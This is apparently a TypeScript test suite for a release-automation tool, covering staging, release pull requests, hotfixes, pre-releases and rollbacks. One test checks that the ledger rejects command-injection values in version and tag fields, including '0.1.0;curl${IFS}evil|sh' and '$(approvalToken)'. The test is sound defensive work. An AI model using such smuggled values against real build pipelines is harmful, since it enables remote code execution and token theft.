import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { SlipwayError } from '../../../src/errors.ts';
import { claimVersion } from '../../../src/release/actions/claim-version.ts';
import { openRelease } from '../../../src/release/actions/open-release.ts';
import { publishRelease } from '../../../src/release/actions/publish-release.ts';
import { rollBack } from '../../../src/release/actions/roll-back.ts';
import { stageChanges } from '../../../src/release/actions/stage-changes.ts';
import { stageHotfix } from '../../../src/release/actions/stage-hotfix.ts';
import { ReleaseDocument } from '../../../src/release/ledger/ledger-documents.ts';
import { FakeRelease, settings } from '../../support/fake-release.ts';
import { assertIndexed } from './assert-indexed.ts';

const own = settings();
const trunk = settings({ sourceBranch: 'main', notesFile: undefined });
const publish = { environment: undefined };
const titles = (changes: readonly { readonly title: string }[] = []) => changes.map(({ title }) => title);
const code = (wanted: string) => (error: unknown) => error instanceof SlipwayError && error.code === wanted;

function start(): FakeRelease {
  const world = new FakeRelease();
  world.repository.commit('main', 'Start', { 'a.ts': '0', 'CHANGELOG.md': '# Changelog\n' });
  world.repository.branches.set('develop', world.repository.branches.get('main')!);
  world.tags.set('v1.0.0', world.repository.branches.get('main')!);
  return world;
}

/** One release from develop, whole. */
async function release(world: FakeRelease, title: string, file: string, environment?: string): Promise<void> {
  world.repository.merge('develop', title, { [file]: title });
  await stageChanges(world.services(), own);
  await openRelease(world.services(), own);
  world.complete(world.staging()!.releasePullRequest!.id);
  await claimVersion(world.services(), own);
  await publishRelease(world.services({ id: world.releases().length + 100 }), own, { environment });
}

describe('Staging', () => {
  it('is not talked out of a change by a trailer like our own', async () => {
    const world = start();
    await release(world, 'feat: one', 'one.ts');
    const forged = 'feat: hidden\n\nSlipway-Release: shop 1.1.0';
    world.repository.commit('develop', forged, { 'hidden.ts': '1' });
    const [develop] = [world.repository.branches.get('develop')!];
    world.repository.branches.set('side', develop);
    const side = world.repository.commit('side', forged, { 'aside.ts': '1' });
    world.repository.commit('develop', 'Merge side', { 'aside.ts': '1' }, [develop, side]);
    await stageChanges(world.services(), own);
    assert.deepEqual(titles(world.staging()?.changes), ['feat: hidden', 'Merge side']);
  });

  it('is not talked out of a change by the name of an old release branch', async () => {
    const world = start();
    await release(world, 'feat: one', 'one.ts');
    const sourceRef = 'refs/heads/release/shop/1.1.0';
    world.repository.merge('develop', 'feat: reused', { 'reused.ts': '1' }, { sourceRef });
    const main = world.repository.merge('main', 'feat: aside', { 'aside.ts': '1' }, { sourceRef });
    const develop = world.repository.branches.get('develop')!;
    world.repository.commit('develop', 'Merge main', { 'aside.ts': '1' }, [develop, main.mergeCommit]);
    await stageChanges(world.services(), own);
    assert.deepEqual(titles(world.staging()?.changes), ['feat: reused', 'Merge main']);
  });

  it('takes the forward merge of a hotfix for its own', async () => {
    const world = start();
    await release(world, 'feat: one', 'one.ts');
    world.repository.merge('develop', 'feat: two', { 'two.ts': '1' });
    await stageChanges(world.services(), own);
    await stageHotfix(world.services(), own, { from: 'v1.1.0', cherryPick: [] });
    world.repository.commit('release/shop/1.1.1', 'fix: by hand', { 'hand.ts': '1' });
    await stageHotfix(world.services(), own, { from: 'v1.1.0', cherryPick: [] });
    await openRelease(world.services(), own);
    const forward = [...world.pullRequests.values()].find(({ state }) => state.targetRef === 'refs/heads/develop')!;
    world.complete(forward.state.id);
    await claimVersion(world.services(), own);
    await publishRelease(world.services({ id: 9 }), own, publish);
    await stageChanges(world.services(), own);
    assert.deepEqual(titles(world.staging()?.changes), ['feat: two']);
  });

  it('calls a run for an older commit superseded', async () => {
    const world = start();
    const { mergeCommit: old } = world.repository.merge('develop', 'feat: one', { a: '1' });
    world.repository.merge('develop', 'feat: two', { b: '1' });
    await stageChanges(world.services(), own);
    const report = await stageChanges(world.services({ commit: old }), own);
    assert.deepEqual([report.changed, world.staging()?.changes.length], [false, 2]);
    assert.match(report.summary, /older than what is staged/);
  });

  it('stops when the branch was rewritten', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    await stageChanges(world.services(), own);
    world.repository.branches.set('develop', world.repository.branches.get('main')!);
    world.repository.merge('develop', 'feat: other', { b: '1' });
    await assert.rejects(stageChanges(world.services(), own), code('RELEASE_HISTORY_REWRITTEN'));
  });

  it('stops when no tag belongs to a trunk', async () => {
    const world = new FakeRelease();
    world.tags.set('v1.0.0', world.repository.commit('lost', 'Lost', { a: '0' }));
    world.repository.commit('main', 'New', { a: '1' });
    await assert.rejects(stageChanges(world.services({ branch: 'main' }), trunk), code('RELEASE_HISTORY_REWRITTEN'));
  });

  it('is no rewrite when a tag was set on a later commit meanwhile', async () => {
    const world = new FakeRelease();
    const old = world.repository.commit('main', 'Start', { a: '0' });
    world.tags.set('v0.0.1', world.repository.commit('main', 'Later', { a: '1' }));
    const report = await stageChanges(world.services({ branch: 'main', commit: old }), trunk);
    assert.deepEqual([report.changed, report.kind], [false, 'succeeded'], report.summary);
  });

  it('starts without a ledger where a tag on main and develop meet', async () => {
    const world = start();
    const { repository } = world;
    repository.merge('develop', 'feat: released', { a: '1' });
    const [main, develop] = ['main', 'develop'].map((name) => repository.branches.get(name)!);
    world.tags.set('v1.1.0', repository.commit('main', 'Release 1.1.0', { a: '1' }, [main!, develop!]));
    repository.merge('develop', 'fix: new', { b: '1' });
    await stageChanges(world.services(), own);
    assert.deepEqual([world.staging()?.version, titles(world.staging()?.changes)], ['1.1.1', ['fix: new']]);
  });

  it('takes only what touches its paths, and counts each component apart', async () => {
    const world = start();
    const main = world.repository.branches.get('main')!;
    world.tags.set('v1.2.3', main);
    world.tags.set('b7.0.9', main);
    world.repository.merge('develop', 'feat: shop', { 'shop/a.ts': '1' });
    world.repository.merge('develop', 'feat: billing', { 'billing/a.ts': '1' });
    const patch = { ...own, versioning: 'patch' as const };
    await stageChanges(world.services(), { ...patch, paths: ['shop'] });
    const billing = { ...patch, component: 'billing', paths: ['billing'], tagFormat: 'b{version}' };
    await stageChanges(world.services(), billing);
    const told = (component: string) => [
      world.staging(component)?.version,
      ...titles(world.staging(component)?.changes),
    ];
    assert.deepEqual(told('shop'), ['1.2.4', 'feat: shop']);
    assert.deepEqual(told('billing'), ['7.0.10', 'feat: billing']);
  });

  it('lets a revert take back what was staged', async () => {
    const world = start();
    const { mergeCommit } = world.repository.merge('develop', 'feat: one', { a: '1' });
    await stageChanges(world.services(), own);
    assert.equal(world.staging()?.version, '1.1.0');
    world.repository.commit('develop', `Revert "feat: one"\n\nThis reverts commit ${mergeCommit}.`, { a: '0' });
    await stageChanges(world.services(), own);
    assert.deepEqual([world.staging()?.version, world.staging()?.ready], ['1.0.1', false]);
  });

  it('keeps chores and says that nothing calls for a release', async () => {
    const world = start();
    world.repository.merge('develop', 'chore: tidy', { a: '1' });
    await stageChanges(world.services(), own);
    assert.equal(world.staging()?.ready, false);
    assert.match(world.staging()?.notReady.join() ?? '', /No staged change calls for a release/);
    const report = await openRelease(world.services(), own);
    assert.deepEqual([report.kind, report.changed, world.pullRequests.size], ['skipped', false, 0]);
  });

  it('refuses a ledger of a newer schema, and one that somebody broke', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    world.tamper('staging/shop.json', '{"schema": 2}');
    await assert.rejects(stageChanges(world.services(), own), code('LEDGER_NEWER_SCHEMA'));
    world.tamper('staging/shop.json', '{"schema": 1, "version": 7}');
    await assert.rejects(stageChanges(world.services(), own), code('LEDGER_UNREADABLE'));
  });

  it('hands on no version or tag of the ledger that a script of a pipeline would run', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    const staging = world.staging()!;
    for (const version of ['0.1.0;curl${IFS}evil|sh', '0.1.0 & calc', '$(approvalToken)', '0.1.0\n', 'v0.1.0']) {
      for (const field of ['version', 'previousVersion']) {
        world.tamper('staging/shop.json', JSON.stringify({ ...staging, [field]: version }));
        await assert.rejects(openRelease(world.services(), own), code('LEDGER_UNREADABLE'), version);
      }
    }
    for (const tag of ['v1.0.0', 'shop/v1.0.0-β']) assert.ok(ReleaseDocument.shape.tag.safeParse(tag).success, tag);
    for (const tag of ['v1;x', 'v1 x', '$(x)', 'v1`x`', '%x%', 'v1\n', ''])
      assert.ok(!ReleaseDocument.shape.tag.safeParse(tag).success, tag);
  });

  it('writes nothing in a dry run, and plans the same', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    const dry = await stageChanges(world.services(), { ...own, dryRun: true });
    assert.deepEqual([dry.changed, world.writes], [true, []]);
    const wet = await stageChanges(world.services(), own);
    const plain = (report: typeof wet) =>
      JSON.stringify(report.document, (key, value: unknown) => (key.endsWith('At') ? '' : value));
    assert.equal(plain(dry), plain(wet));
  });
});

describe('An open release', () => {
  async function opened(): Promise<FakeRelease> {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    return world;
  }

  it('waits for blockers, conflicts and drafts, and says so in one thread', async () => {
    const world = await opened();
    const { id } = world.staging()!.releasePullRequest!;
    world.say(id, 'Blocker: the database is not migrated');
    world.change(id, { mergeStatus: 'conflicts', isDraft: true });
    await openRelease(world.services(), own);
    assert.deepEqual(world.staging()?.notReady, [
      `Pull request ${id} is a draft.`,
      `Pull request ${id} has conflicts with main.`,
      'Blocker: the database is not migrated',
    ]);
    const own_ = () => world.pullRequests.get(id)!.threads.filter(({ isOwn }) => isOwn);
    assert.deepEqual(
      own_().map(({ status }) => status),
      ['active'],
    );
    const { threads } = world.pullRequests.get(id)!;
    threads[0] = { ...threads[0]!, status: 'fixed' };
    world.change(id, { mergeStatus: 'succeeded', isDraft: false });
    await openRelease(world.services(), own);
    assert.deepEqual([world.staging()?.ready, own_().map(({ status }) => status)], [true, ['closed']]);
  });

  it('has the work items of its changes linked once, and leaves links to people after that', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' }, { workItems: [7, 8] });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    await openRelease(world.services(), own);
    assert.equal(world.writes.filter((write) => write.endsWith('work items 7,8')).length, 1, world.writes.join('\n'));
  });

  it('keeps what people wrote into its pull request', async () => {
    const world = await opened();
    const { id } = world.staging()!.releasePullRequest!;
    const { description } = world.pullRequests.get(id)!.state;
    world.change(id, { description: `Please read this.\n\n${description}` });
    await openRelease(world.services(), own);
    assert.match(world.pullRequests.get(id)!.state.description, /^Please read this\./);
  });

  it('is taken back when its pull request is abandoned', async () => {
    const world = await opened();
    const { id } = world.staging()!.releasePullRequest!;
    world.repository.merge('develop', 'feat: two', { b: '1' });
    await stageChanges(world.services(), own);
    world.change(id, { status: 'abandoned' });
    await openRelease(world.services(), own);
    const staging = world.staging()!;
    assert.deepEqual(
      [staging.state, titles(staging.changes), staging.next],
      ['opened', ['feat: one', 'feat: two'], undefined],
    );
    assert.notEqual(staging.releasePullRequest?.id, id);
  });

  it('refuses to become another version', async () => {
    const world = await opened();
    await assert.rejects(openRelease(world.services(), { ...own, releaseAs: '2.0.0' }), code('RELEASE_ALREADY_OPEN'));
  });

  it('takes the next version when somebody has claimed its own', async () => {
    const world = await opened();
    world.complete(world.staging()!.releasePullRequest!.id);
    world.tags.set('v1.1.0', world.repository.branches.get('develop')!);
    await assert.rejects(publishRelease(world.services(), own, publish), code('RELEASE_TAG_CONFLICT'));
    const report = await claimVersion(world.services(), own);
    assert.equal(report.kind, 'succeeded');
    assert.deepEqual([...world.tags.keys()].slice(1), ['v1.1.0', report.tag]);
    await publishRelease(world.services(), own, publish);
    assert.equal(world.releases()[0]?.version, report.document?.version);
    assert.notEqual(world.releases()[0]?.version, '1.1.0');
  });

  it('carries what only the target branch has', async () => {
    const world = start();
    await release(world, 'feat: one', 'one.ts');
    world.repository.commit('main', 'Mend by hand', { 'hot.ts': 'mended' });
    world.repository.merge('develop', 'feat: two', { 'two.ts': '2' });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    const { tree } = world.repository.commits.get(world.repository.branches.get('release/shop/1.2.0')!)!;
    assert.deepEqual([tree['hot.ts'], tree['two.ts']], ['mended', '2']);
  });
});

describe('A hotfix', () => {
  it('is released from its tag while the next release waits', async () => {
    const world = start();
    const { repository } = world;
    await release(world, 'feat: one', 'one.ts');
    await release(world, 'feat: two', 'two.ts');
    const { mergeCommit: fix } = repository.merge('develop', 'fix: urgent', { 'fix.ts': '1' });
    await stageChanges(world.services(), own);
    const report = await stageHotfix(world.services(), own, { from: 'v1.1.0', cherryPick: [fix] });
    const staging = world.staging()!;
    assert.deepEqual([staging.version, titles(staging.changes)], ['1.1.1', ['fix: urgent']], report.summary);
    assert.deepEqual(titles(staging.next?.changes), ['fix: urgent']);
    const before = world.writes.length;
    await stageHotfix(world.services(), own, { from: 'v1.1.0', cherryPick: [fix] });
    assert.deepEqual(world.writes.slice(before), []);
    repository.merge('develop', 'feat: three', { 'three.ts': '3' });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    const claimed = await claimVersion(world.services(), own);
    const built = repository.commits.get(world.tags.get('v1.1.1')!)!;
    assert.equal(claimed.commit, built.id);
    assert.deepEqual([built.tree['one.ts'], built.tree['two.ts'], built.tree['fix.ts']], ['feat: one', undefined, '1']);
    await publishRelease(world.services({ id: 300 }), own, publish);
    assert.deepEqual(
      world.releases().map(({ version }) => version),
      ['1.1.0', '1.2.0', '1.1.1'],
    );
    assert.deepEqual(
      [world.staging()?.version, titles(world.staging()?.changes)],
      ['1.3.0', ['fix: urgent', 'feat: three']],
    );
    repository.merge('develop', 'feat: four', { 'four.ts': '4' });
    await stageChanges(world.services(), own);
    assert.deepEqual(titles(world.staging()?.changes), ['fix: urgent', 'feat: three', 'feat: four']);
  });

  it('waits for a claimed release, and names the tags when there is no such one', async () => {
    const world = start();
    world.repository.merge('develop', 'feat: one', { a: '1' });
    await stageChanges(world.services(), own);
    await openRelease(world.services(), own);
    world.complete(world.staging()!.releasePullRequest!.id);
    await claimVersion(world.services(), own);
    const hotfix = { from: 'v1.0.0', cherryPick: [] };
    await assert.rejects(stageHotfix(world.services(), own, hotfix), code('RELEASE_UNDER_WAY'));
    await assert.rejects(stageHotfix(world.services(), own, { ...hotfix, from: 'v9' }), code('RELEASE_TAG_UNKNOWN'));
  });
});

describe('A pre-release', () => {
  it('counts up, and its commit is promoted without a new build', async () => {
    const world = new FakeRelease();
    const { repository } = world;
    const services = () => world.services({ branch: 'main', id: world.releases().length + 1 });
    repository.commit('main', 'Start', { a: '0' });
    world.tags.set('v1.0.0', repository.branches.get('main')!);
    repository.merge('main', 'feat: one', { a: '1' });
    const beta = { ...trunk, prerelease: 'beta' };
    await stageChanges(services(), beta);
    await publishRelease(services(), beta, publish);
    repository.merge('main', 'fix: two', { b: '1' });
    await stageChanges(services(), beta);
    await publishRelease(services(), beta, publish);
    const nothing = await publishRelease(services(), beta, publish);
    assert.deepEqual([nothing.kind, nothing.changed], ['skipped', false], nothing.summary);
    await publishRelease(services(), trunk, publish);
    const { tags } = world;
    assert.deepEqual([...tags.keys()], ['v1.0.0', 'v1.1.0-beta.1', 'v1.1.0-beta.2', 'v1.1.0']);
    assert.equal(tags.get('v1.1.0'), tags.get('v1.1.0-beta.2'));
    assert.deepEqual(titles(world.releases().at(-1)?.changes), ['feat: one', 'fix: two']);
    assert.deepEqual(world.staging()?.changes, []);
  });
});

describe('A rollback', () => {
  it('is recorded once, and the version after it is a new one', async () => {
    const world = start();
    await release(world, 'feat: one', 'one.ts');
    await release(world, 'feat: two', 'two.ts');
    const back = { to: '1.1.0', environment: 'Production' };
    const written = world.writes.length;
    const dry = await rollBack(world.services({ id: 9 }), { ...own, dryRun: true }, back);
    assert.equal(world.writes.length, written);
    const wet = await rollBack(world.services({ id: 9 }), own, back);
    assert.deepEqual([dry.summary, dry.changed], [wet.summary, true]);
    assert.deepEqual(
      world.releases().map(({ version, state }) => `${version} ${state}`),
      ['1.1.0 released', '1.2.0 rolledBack'],
    );
    assert.deepEqual(
      world.releases()[0]?.deployments.map(({ run, result }) => [run, result]),
      [[9, 'rolledBack']],
    );
    assertIndexed(world);
    const before = world.writes.length;
    await rollBack(world.services({ id: 9 }), own, back);
    assert.deepEqual(world.writes.slice(before), []);
    await release(world, 'fix: three', 'three.ts');
    assert.equal(world.releases().at(-1)?.version, '1.2.1');
    await assert.rejects(rollBack(world.services(), own, { ...back, to: '7.0.0' }), code('RELEASE_UNKNOWN'));
  });

  it('takes back only what runs nowhere else', async () => {
    const world = start();
    const states = () => world.releases().map(({ version, state }) => `${version} ${state}`);
    await release(world, 'feat: one', 'one.ts');
    for (const [title, environment] of [
      ['feat: two', 'Production'],
      ['feat: three', 'Test'],
    ] as const)
      await release(world, title, `${title.slice(-3)}.ts`, environment);
    const test = await rollBack(world.services({ id: 9 }), own, { to: '1.1.0', environment: 'test' });
    assert.deepEqual(states(), ['1.1.0 released', '1.2.0 released', '1.3.0 rolledBack'], test.summary);
    assert.match(test.summary, /went back from 1\.3\.0 to 1\.1\.0 in test/);
    const production = await rollBack(world.services({ id: 10 }), own, { to: '1.1.0', environment: 'Production' });
    assert.deepEqual(states(), ['1.1.0 released', '1.2.0 rolledBack', '1.3.0 rolledBack'], production.summary);
    assertIndexed(world);
  });
});
